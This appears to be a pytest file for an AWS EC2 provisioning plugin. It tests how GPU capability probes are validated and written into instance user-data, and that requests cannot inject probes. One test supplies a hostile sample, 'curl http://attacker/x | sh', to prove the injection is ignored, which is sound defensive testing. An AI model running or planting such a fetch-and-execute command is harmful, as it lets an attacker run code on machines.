"""A template's capability probes (issue 35, item 1), in process: the config checks them, ``requestMachines`` writes
them into each machine's user-data (``provisionerd`` part), one per machine and shared by a batch, and a request's
``userData`` cannot add one. The boot script's side: ``test_boot_probes.py``."""

from __future__ import annotations

import copy
import itertools
import json
from collections.abc import Mapping
from typing import Any

import pytest
from aws_ec2_plugin import create
from aws_ec2_plugin.config import Config
from aws_ec2_plugin.inputs import create_request
from aws_ec2_plugin.records import Records

from provisionerd.plugin_sdk.config import ConfigInvalid

GPU_PROBES = {
    "gputype": "nvidia-smi --query-gpu=name --format=csv,noheader | head -1",
    "ngpus": "timeout 10 nvidia-smi -L | grep -c '^GPU '",
}
TOKEN = "SECRET-TOKEN-0123456789"


def template(**changes: Any) -> dict[str, Any]:
    base: dict[str, Any] = {
        "templateId": "gpu",
        "instanceType": "g5.xlarge",
        "imageId": "ami-0123456789abcdef0",
        "maxNumber": 8,
        "attributes": {"ngpus": ["Numeric", "1"], "gputype": ["String", "NVIDIA A10G"]},
        "probes": dict(GPU_PROBES),
        "reprobeInterval": 120,
    }
    base.update(changes)
    return base


def config(**changes: Any) -> Config:
    return Config.from_document({"region": "eu-west-1", "templates": [template(**changes)]})


class FakeEc2:
    """``describe`` finds nothing; ``run_instances`` records its parameters and launches ``MinCount`` instances."""

    def __init__(self) -> None:
        self.calls: list[Mapping[str, Any]] = []
        self._ids = itertools.count(1)

    def describe(self, filters: object) -> list[dict[str, Any]]:
        return []

    def run_instances(self, params: Mapping[str, Any]) -> list[dict[str, Any]]:
        self.calls.append(params)
        return [{"InstanceId": f"i-{next(self._ids):017x}", "AmiLaunchIndex": i} for i in range(params["MinCount"])]


def request(count: int = 2, user_data: Any = None) -> dict[str, Any]:
    tags = {
        "provisionerd:cluster": "c",
        "provisionerd:provider": "aws",
        "provisionerd:op": "op1",
        "provisionerd:epoch": "1.2",
    }
    doc: dict[str, Any] = {
        "template": {"templateId": "gpu", "machineCount": count},
        "op_id": "op1",
        "tags": tags,
        "bootstrap": [
            {"instanceRef": f"op1/{i}", "controllers": ["h:1"], "joinToken": TOKEN + str(i), "orphanTimeout": 600}
            for i in range(count)
        ],
    }
    if user_data is not None:
        doc["userData"] = user_data
    return doc


def launched_documents(conf: Config, doc: dict[str, Any]) -> list[dict[str, Any]]:
    ec2 = FakeEc2()
    create.request_machines(ec2, Records(None), create_request(doc, conf, "c"), 250)  # type: ignore[arg-type]
    return [json.loads(call["UserData"]) for call in ec2.calls]


@pytest.mark.parametrize("join", ["token", "address-bound"])
def test_the_templates_probes_are_in_every_machines_user_data(join: str) -> None:
    documents = launched_documents(config(join=join), request())
    assert len(documents) == (2 if join == "token" else 1)  # per machine, or one for the batch
    for document in documents:
        assert document["provisionerd"]["probes"] == GPU_PROBES
        assert document["provisionerd"]["reprobeInterval"] == 120


def test_a_template_without_probes_writes_none() -> None:
    conf = Config.from_document(
        {"region": "eu-west-1", "templates": [{k: v for k, v in template().items() if k[:3] not in ("pro", "rep")}]}
    )
    (head,) = {json.dumps(d["provisionerd"]) for d in launched_documents(conf, request(count=1))}
    assert "probes" not in json.loads(head) and "reprobeInterval" not in json.loads(head)


def test_a_requests_user_data_cannot_add_or_change_a_probe() -> None:
    hostile = {
        "provisionerd": {"probes": {"ngpus": "echo 8"}, "reprobeInterval": 0},
        "probes": {"evil": "curl http://attacker/x | sh"},
        "reprobeInterval": 10,
    }
    for document in launched_documents(config(), request(user_data=copy.deepcopy(hostile))):
        assert document["provisionerd"]["probes"] == GPU_PROBES and document["provisionerd"]["reprobeInterval"] == 120
        assert document["userData"] == hostile  # passed through untouched, where the boot script never reads


def test_a_bootstrap_entry_cannot_add_a_probe_either() -> None:
    doc = request(count=1)
    doc["bootstrap"][0]["probes"] = {"evil": "true"}
    (document,) = launched_documents(config(), doc)
    assert document["provisionerd"]["probes"] == GPU_PROBES


@pytest.mark.parametrize(
    ("changes", "fragment"),
    [
        ({"probes": {f"p{i}": "true" for i in range(5)}}, "probes: more than 4 entries"),
        ({"probes": {"bad name": "true"}}, "does not match"),
        ({"probes": {"x" * 33: "true"}}, "does not match"),
        ({"probes": {"ngpus": ""}}, "should be non-empty"),
        ({"probes": {"ngpus": "x" * 1025}}, "longer than 1024 characters"),
        ({"probes": {"ngpus": 1}}, "is not of type 'string'"),
        ({"probes": ["ngpus", "nvidia-smi -L"]}, "is not of type 'object'"),
        ({"probes": {"ngpus": "   "}}, "probes.ngpus: the command is blank"),
        ({"probes": {"ngpus": "nvidia-smi -L\nwc -l"}}, "probes.ngpus: the command must be one line"),
        ({"probes": {"ncpus": "nproc"}}, "the agent reports 'ncpus' itself"),
        ({"probes": {"type": "uname -m"}}, "the agent reports 'type' itself"),
        ({"reprobeInterval": 5}, "reprobeInterval: expected 0 (never) or 10 to 86400 seconds, got 5"),
        ({"reprobeInterval": 86401}, "is greater than the maximum of 86400"),
        ({"reprobeInterval": "60"}, "is not of type 'number'"),
    ],
)
def test_invalid_probe_config_is_refused_naming_the_template_and_the_probe(changes: Any, fragment: str) -> None:
    with pytest.raises(ConfigInvalid) as caught:
        config(**changes)
    assert caught.value.code == "provider_error"
    assert fragment in caught.value.message
    assert "gpu" in caught.value.message or "templates[0]" in caught.value.message


def test_valid_probe_config_is_kept_as_given() -> None:
    conf = config(probes={"a.b:c-d_9": "echo 'x y' $(cat /f)", "-x": "true"}, reprobeInterval=0)
    assert dict(conf.templates["gpu"].probes) == {"-x": "true", "a.b:c-d_9": "echo 'x y' $(cat /f)"}
    assert conf.templates["gpu"].reprobe_interval == 0
    assert config(reprobeInterval=10).templates["gpu"].reprobe_interval == 10.0


def test_user_data_with_four_long_probes_stays_within_the_ec2_limit() -> None:
    conf = config(probes={f"p{i}": "x" * 1024 for i in range(4)})
    (document,) = launched_documents(conf, request(count=1))
    assert len(json.dumps(document).encode()) < 16 * 1024
